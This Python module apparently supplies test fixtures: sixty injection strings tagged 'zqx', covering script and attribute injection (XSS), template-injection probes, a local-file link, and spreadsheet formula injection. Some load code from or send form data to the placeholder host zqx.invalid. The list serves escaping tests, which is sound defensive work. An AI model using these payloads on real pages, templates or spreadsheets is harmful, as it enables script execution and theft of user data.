"""Sixty texts that would do something, if any place showed them as anything but text. Each has ``zqx`` in it."""

#: What would run or load something in a browser, in a mail program or in the renderer of PDFs.
MARKUP = [
    "<script>zqx()</script>",
    "<ScRiPt src=//zqx.invalid/x></sCrIpT>",
    "</textarea><script>zqx()</script>",
    "</title><script>zqx()</script>",
    "</style><script>zqx()</script>",
    "</script><script>zqx()</script>",
    "--><script>zqx()</script>",
    "]]><script>zqx()</script>",
    '"><script>zqx()</script>',
    "'><script>zqx()</script>",
    '" onfocus=zqx() autofocus x="',
    "' onmouseover=zqx() x='",
    '" style="background:url(//zqx.invalid)"',
    "<img src=x onerror=zqx()>",
    "<img src=//zqx.invalid/p.png>",
    "<svg onload=zqx()>",
    "<svg><script>zqx()</script></svg>",
    "<svg><use href='//zqx.invalid#a'/></svg>",
    "<math><mtext><img src=x onerror=zqx()>",
    "<iframe src=javascript:zqx()></iframe>",
    "<iframe srcdoc='<script>zqx()</script>'>",
    "<object data=//zqx.invalid/o></object>",
    "<embed src=//zqx.invalid/e>",
    "<a href=javascript:zqx()>zqx</a>",
    "<a href='java\tscript:zqx()'>zqx</a>",
    "javascript:zqx()",
    "data:text/html,<script>zqx()</script>",
    "<form action=//zqx.invalid><input name=p>",
    "<button formaction=//zqx.invalid>zqx</button>",
    "<meta http-equiv=refresh content='0;//zqx.invalid'>",
    "<base href=//zqx.invalid/>",
    "<link rel=stylesheet href=//zqx.invalid/c>",
    "<link rel=attachment href=file:///etc/zqx>",
    "<style>*{background:url(//zqx.invalid)}</style>",
    "<style>@import '//zqx.invalid/c';</style>",
    "</style><style>p{display:none}zqx{}</style>",
    "<video src=//zqx.invalid/v onerror=zqx()>",
    "<audio src=x onerror=zqx()>",
    "<details open ontoggle=zqx()>zqx",
    "<body onload=zqx()>",
    "<input onfocus=zqx() autofocus>",
    "<template><script>zqx()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=zqx()>'>",
    "&lt;script&gt;zqx()&lt;/script&gt;",
    "&#60;img src=x onerror=zqx()&#62;",
    "<div hx-get=//zqx.invalid hx-trigger=load>",
    "<p hx-on:load=zqx()>zqx",
    "<<zqx/onclick=zqx()>",
    "\\u003cscript\\u003ezqx()\\u003c/script\\u003e",
    "{{ zqx|safe }}{% include 'zqx' %}",
    "{0.__class__.__init__.__globals__}zqx",
    "${zqx}#{zqx}<%= zqx %>",
]
#: What a spreadsheet would reckon.
FORMULAS = [
    "=zqx()",
    "+zqx+1",
    "-zqx+1",
    "@SUM(zqx)",
    '=HYPERLINK("//zqx.invalid","zqx")',
    "\t=zqx()",
    " =zqx()",
    "＝zqx()",
]
PAYLOADS = [*MARKUP, *FORMULAS]


def payload(number: int, most: int | None = None) -> str:
    """The one with this number, or the next that fits into ``most`` characters."""
    for step in range(len(PAYLOADS)):
        found = PAYLOADS[(number + step) % len(PAYLOADS)]
        if most is None or len(found) <= most:
            return found
    return PAYLOADS[-1]
